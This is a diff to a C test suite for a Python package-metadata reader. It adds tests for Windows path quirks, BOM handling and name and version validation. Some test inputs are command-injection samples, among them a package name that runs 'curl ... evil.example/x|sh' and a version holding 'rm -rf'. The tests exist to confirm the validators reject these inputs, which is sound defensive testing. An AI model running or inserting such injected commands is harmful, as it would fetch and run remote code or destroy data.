@@ -169,6 +169,12 @@ static void test_resolve(void)
 	/* the environment is a folder, not a name prefix: C:\Py2 is not inside C:\Py */
 	CHECK_INT(dist_record_resolve("C:\\Py2\\Lib\\site-packages", env, "x.dll", &w, &e), -1);
 	CHECK_STR(e.msg, "C:\\Py2\\Lib\\site-packages is not inside C:\\Py");
+	/* Windows drops the last component's trailing dots and spaces: one file, c10.dll */
+	CHECK_INT(dist_record_resolve(sp, env, "torch/lib/c10.dll. .", &w, &e), 0);
+	CHECK_STR(w, "C:\\Py\\Lib\\site-packages\\torch\\lib\\c10.dll");
+	free(w);
+	CHECK_INT(dist_record_resolve(sp, env, "torch/ . ", &w, &e), -1);
+	CHECK_STR(e.msg, "\"torch/ . \": its last component is only dots and spaces");
 	/* without an environment, the site-packages itself is the boundary */
 	CHECK_INT(dist_record_resolve(sp, NULL, "../x.dll", &w, &e), -1);
 }
@@ -250,8 +256,33 @@ static void test_metadata_bad(void)
 	}
 }
 
+/* A UTF-8 byte-order mark (an editor's save) is not part of the first path or header. */
+static void test_bom(void)
+{
+	struct dist_record r;
+	struct dist_metadata m;
+	struct err e;
+	CHECK_INT(rec(&r, "\xEF\xBB\xBFtorch/_C.pyd,,\n", &e), 0);
+	CHECK_INT(r.n, 1);
+	if (r.n == 1)
+		CHECK_STR(r.v[0].path, "torch/_C.pyd");
+	dist_record_release(&r);
+	CHECK_INT(md(&m, "\xEF\xBB\xBFName: torch\nVersion: 2.9.1\n", &e), 0);
+	CHECK_STR(m.name, "torch");
+	dist_metadata_release(&m);
+}
+
 static void test_names(void)
 {
+	static const char *const good[] = { "torch", "PyQt5-Qt5", "a", "zope.interface", "x_y", "A1" };
+	static const char *const bad[] = { "", "hx; curl -s https://evil.example/x|sh; echo", "-x", "x-", ".x",
+					   "x y", "x\"", "x$(id)", "x`id`", "x\ny" };
+	size_t i;
+	for (i = 0; i < sizeof(good) / sizeof(good[0]); i++)
+		CHECK(dist_name_valid(good[i]));
+	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
+		CHECK(!dist_name_valid(bad[i]));
+	CHECK(dist_version_valid("2.9.1+cu126") && !dist_version_valid("1.0; rm -rf x") && !dist_version_valid(""));
 	char *n = dist_name_normalize("PyQt5_Qt5");
 	CHECK_STR(n, "pyqt5-qt5");
 	free(n);
@@ -324,6 +355,9 @@ static void test_site_packages(void)
 	put(root, SP "norecord-1.0.dist-info/top_level.txt", "nr\n");
 	put(root, SP "nr/sub/a.pyd", "x");
 	put(root, SP "nr/b.txt", "x");
+	/* a Name that is not a distribution name: read, and said to be invalid */
+	put(root, SP "hx-1.0.dist-info/METADATA", "Name: hx; curl -s https://evil.example/x|sh; echo\nVersion: 1.0\n");
+	put(root, SP "hx-1.0.dist-info/RECORD", "");
 	/* a RECORD that is not one, and no METADATA */
 	put(root, SP "broken-2.0.dist-info/RECORD", "a,b,c,d\n");
 	put(root, SP "broken/x.dll", "x");
@@ -334,7 +368,12 @@ static void test_site_packages(void)
 	}
 	CHECK_INT(dist_set_read(&s, v, "C:\\Py\\Lib\\site-packages", NULL, &e), 0);
 	CHECK_STR(s.env_root, "C:\\Py");
-	CHECK_INT(s.n, 4);
+	CHECK_INT(s.n, 5);
+	d = dist_set_find(&s, "hx; curl -s https://evil.example/x|sh; echo");
+	CHECK(d != NULL);
+	if (d)
+		CHECK_HAS(joined(&d->notes), "not a valid distribution: its name \"hx; curl -s https://evil.example/x|sh; "
+					     "echo\" or version is not one PEP 508 allows; no command names it");
 	d = dist_set_find(&s, "TorchVision");
 	CHECK(d != NULL);
 	if (d) {
@@ -399,6 +438,7 @@ int main(void)
 	RUN(test_resolve);
 	RUN(test_metadata);
 	RUN(test_metadata_bad);
+	RUN(test_bom);
 	RUN(test_names);
 	RUN(test_site_packages);
 	return HARNESS_EXIT();
